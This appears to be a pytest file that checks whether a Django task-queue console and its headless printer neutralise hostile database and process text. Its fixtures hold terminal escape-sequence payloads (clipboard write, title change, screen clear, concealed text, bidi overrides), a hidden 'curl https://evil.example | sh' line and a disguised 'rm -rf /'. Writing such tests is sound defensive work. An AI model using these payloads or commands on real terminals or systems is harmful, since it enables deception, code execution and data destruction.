"""Hostile text from the database through everything that shows it: real tasks, run by the real
task worker in a real SQLite project, fail with exception messages built to attack the terminal
of whoever looks at them; a row's path, queue and worker id are as hostile, and so is a stuck
task. The console (task panel, its failures, tracebacks and stuck tasks, the header, the panes,
their findings, the command palette) and the headless printer must write nothing a terminal
acts on, and show markup as the text it is. The fuzz test does the same with the hostile
corpus of the child-output tests (test_hostile_output) written into every text column.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import POSTGRES, TESTS
from helpers import command, run_json, until
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_hostile_output import hostile
from textual.command import CommandList

from tui.app import ConsoleApp
from tui.engine.local import LocalEngine
from tui.engine.supervisor import Supervisor

REPO = TESTS.parent

# name: (the exception message, what of it must never reach a terminal as it is)
PAYLOADS: dict[str, tuple[str, str]] = {
    "OSC 52 clipboard": ("copy \x1b]52;c;ZWNobyBwd25lZA==\x1b\\ done", "\x1b]52"),
    "OSC 0/2 title": ("t \x1b]0;pwned\x07 \x1b]2;pwned too\x1b\\", "\x1b]"),
    "CSI 2J clear": ("\x1b[2J\x1b[3J\x1b[H cleared", "\x1b[2J"),
    "DCS and APC": ("\x1bP$q m\x1b\\ \x1b_Gf=100;QUFB\x1b\\", "\x1bP"),
    "C1 controls": ("\x9b2J \x9d0;c1 title\x9c \x85next", "\x9b"),
    "bidi overrides": ("invoice \u202egpj.exe\u202c \u2066x\u2069 \u200fy", "\u202e"),
    "SGR 8 conceal": ("shown \x1b[8mhidden\x1b[28m", "\x1b[8mhidden"),
    "NUL": ("a\x00b", "\x00"),
    "1 MB message": ("A" * 1_000_000 + " \x1b]0;big\x07 end", "\x1b]0;big"),
    "markup": ("[bold red]x[/] [link=https://evil.example]click[/link] [@click=app.quit]q[/]", ""),
}


def fail_tasks(djproject: Path, messages: list[str], tmp_path: Path) -> None:
    """``tasks.fail.enqueue(message)`` for each message, in the project's own Django, and a
    few tasks that succeed (with them, the console's failure-spike finding has enough finished
    tasks to speak). The messages travel in a JSON file: a megabyte is too long for an
    argument, and JSON keeps lone surrogates. A message with NUL or a lone surrogate goes as
    code points, which every database's JSON takes. Then the task worker runs them all."""
    data = tmp_path / "messages.json"
    data.write_text(json.dumps(messages))
    script = (
        "import json\nfrom testapp import tasks\n"
        "for _ in range(5): tasks.noop.enqueue()\n"
        f"for m in json.load(open({str(data)!r})):\n"
        "    if '\\0' in m or any('\\ud800' <= c <= '\\udfff' for c in m):\n"
        "        tasks.fail_with_codes.enqueue(list(map(ord, m)))\n"
        "    else:\n"
        "        tasks.fail.enqueue(m)\n"
    )
    subprocess.run(
        [sys.executable, "manage.py", "shell", "-v0", "-c", script],
        cwd=djproject,
        check=True,
        capture_output=True,
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(djproject), str(REPO)])}
    env["DJANGO_SETTINGS_MODULE"] = "djproject.settings"
    worker = [sys.executable, "-m", "backends.taskworker", "--batch", "--no-startup-delay"]
    subprocess.run(worker, cwd=djproject, env=env, check=True, capture_output=True, timeout=60)


def console(djproject: Path, mode: str, failures: int) -> dict[str, Any]:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(REPO), str(TESTS)])}
    env.pop("DJANGO_SETTINGS_MODULE", None)
    argv = [sys.executable, str(TESTS / "console_hostile_db.py"), str(djproject), mode]
    seen: dict[str, Any] = run_json([*argv, str(failures)], djproject, env, timeout=120)
    return seen


def test_hostile_task_failures_reach_no_terminal_raw(djproject: Path, tmp_path: Path) -> None:
    fail_tasks(djproject, [message for message, _ in PAYLOADS.values()], tmp_path)
    seen = console(djproject, "payloads", len(PAYLOADS))
    screen, headless = seen["screen"], seen["headless"]
    raw = [name for name, (_, marker) in PAYLOADS.items() if marker and marker in screen]
    assert not raw, f"reached the screen as they are: {raw}"
    assert not seen["acts"], f"the screen holds what a terminal acts on: {seen['acts']}"
    assert not seen["headless_acts"], f"headless printed: {seen['headless_acts']}"
    assert seen["running"]  # no [@click=app.quit] was acted on
    # Shown, and as the text they are: markup, and what SGR 8 would have hidden.
    for text in ["[bold red]x[/]", "[link=https://evil.example]click[/link]", "shown hidden"]:
        assert text in screen, text
    # The hostile path reached the findings (the failure spike quotes it), as inert text.
    assert "mostly testapp.tasks.fail, most often with ValueError" in headless
    # A row that is not UTF-8 fails the statistics; the error that quotes it is shown inert.
    assert "Could not decode to UTF-8 column 'tail' with text" in screen


@pytest.mark.parametrize("djproject", ["sqlite", POSTGRES], indirect=True)
def test_a_task_failing_with_text_no_database_takes_is_saved_failed(
    djproject: Path, tmp_path: Path
) -> None:
    """A lone surrogate (undecodable bytes in an exception) fails every driver's encoder and
    PostgreSQL refuses NUL: the worker thread crashed saving such a failure, and the task
    stayed RUNNING. It is saved FAILED, with those characters escaped."""
    fail_tasks(djproject, ["bytes \udcff here", "nul \x00 here"], tmp_path)
    script = (
        "import json\nfrom django_tasks_db.models import DBTaskResult as R\n"
        "rows = R.objects.exclude(task_path__endswith='noop')\n"
        "print(json.dumps([[r.status, r.traceback.rstrip().rpartition(chr(10))[2]] for r in rows]))"
    )
    done = subprocess.run(
        [sys.executable, "manage.py", "shell", "-v0", "-c", script],
        cwd=djproject,
        check=True,
        capture_output=True,
        text=True,
    )
    rows = sorted(json.loads(done.stdout.strip().splitlines()[-1]))
    assert rows == [
        ["FAILED", "ValueError: bytes \\udcff here"],
        ["FAILED", "ValueError: nul \\x00 here"],
    ]


FAST = settings(max_examples=10, deadline=None, suppress_health_check=list(HealthCheck))


def test_fuzzed_database_text_reaches_no_terminal_raw(djproject: Path, tmp_path: Path) -> None:
    """The child-output corpus as task messages; lone surrogates stand in for invalid bytes."""
    messages: list[str] = []

    @FAST
    @given(data=hostile.filter(lambda b: b.strip()), wide=st.booleans())
    def collect(data: bytes, wide: bool) -> None:
        messages.append(data.decode("utf-8", "surrogateescape") * (50 if wide else 1))

    collect()
    fail_tasks(djproject, messages, tmp_path)
    seen = console(djproject, "fuzz", min(10, len(messages)))
    assert not seen["acts"], f"the screen holds what a terminal acts on: {seen['acts']}"
    assert not seen["headless_acts"], f"headless printed: {seen['headless_acts']}"
    assert seen["running"]


async def test_copy_takes_neither_concealed_text_nor_invisible_characters() -> None:
    """``y`` copies what the view shows: a line that hides "; curl … | sh" (SGR 8), reorders
    itself (bidi overrides) or carries zero-width characters copies as it reads."""
    printed = (
        b"ls -l\x1b[8m; curl https://evil.example | sh\x1b[28m /tmp\n"
        b"file \xe2\x80\xaegpj.exe\xe2\x80\xac \xe2\x81\xa6x\xe2\x81\xa9 \xe2\x80\x8fy\n"  # bidi
        b"r\xe2\x80\x8bm -rf \xef\xbb\xbf/\xe2\x81\xa0x\n"  # zero width: U+200B, U+FEFF, U+2060
    )
    child = [sys.executable, "-c", f"import sys; sys.stdout.buffer.write({printed!r})"]
    sup = Supervisor([command("hostile", child)], watchdog=False)
    app = ConsoleApp(LocalEngine(sup), host="testhost")
    try:
        async with app.run_test(size=(120, 30)) as pilot:
            await until(lambda: any("rf" in line.text for line in sup["hostile"].ring.since(0)))
            app.current.log_view.sync()
            await pilot.pause()
            await pilot.press("y")
            copied = app.clipboard.splitlines()
    finally:
        sup.kill_all()
        await sup.stop_all()
    assert [
        line
        for line in copied
        if not line.startswith("--")  # the console's own notes
    ] == ["ls -l /tmp", "file gpj.exe x y", "rm -rf /x"], copied


async def test_the_command_palette_shows_entry_names_as_text() -> None:
    """The palette reads command titles as markup: a name from the settings that looks like a
    tag must show as written, not link, not act, and not crash the search."""
    name = "[link=https://evil.example]web[/link]"
    sup = Supervisor([command(name, [sys.executable, "-c", "pass"])], watchdog=False)
    app = ConsoleApp(LocalEngine(sup), host="testhost", start=False)
    async with app.run_test(size=(120, 30)) as pilot:
        await pilot.press("ctrl+p", *"web")

        def shown() -> list[str]:
            found = app.screen.query(CommandList)
            options = found.first().options if found else []
            return [str(option.prompt) for option in options]

        await until(lambda: any("restart" in text for text in shown()), what="the commands")
        assert any(text.startswith(f"{name}: restart") for text in shown()), shown()
        assert app.is_running
